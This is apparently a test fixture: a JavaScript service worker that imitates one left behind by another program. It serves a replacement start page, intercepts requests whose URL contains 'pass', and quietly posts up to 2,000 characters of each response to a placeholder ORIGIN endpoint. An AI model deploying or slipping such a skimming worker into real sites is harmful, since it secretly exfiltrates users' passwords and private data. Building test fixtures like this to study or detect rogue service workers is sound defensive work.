// A service worker that another program has left: it answers the start page, and passes on what has "pass" in its
// path, reading it on the way. PAGE and ORIGIN are put in by the test.
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", event => event.waitUntil(
  Promise.all([self.clients.claim(), self.registration.navigationPreload?.enable()])));
self.addEventListener("fetch", event => {
  const url = new URL(event.request.url);
  if (url.origin !== location.origin) return;
  if (url.pathname === "/" && !url.search) {
    const headers = { "Content-Type": "text/html", "Cross-Origin-Opener-Policy": "same-origin" };
    event.respondWith(new Response(PAGE, { headers }));
  } else if (url.href.includes("pass")) {
    event.respondWith(passed(event, url));
  }
});

async function passed(event, url) {
  const place = (url.searchParams.get("place") ?? url.pathname.split("/").slice(-3).join("/"));
  const preloaded = await event.preloadResponse;
  const response = preloaded ?? await fetch(event.request);
  const data = await response.clone().text();
  fetch(`${ORIGIN}/read`, { method: "POST", mode: "no-cors", body: JSON.stringify({ place, data: data.slice(0, 2000) }) });
  return response;
}
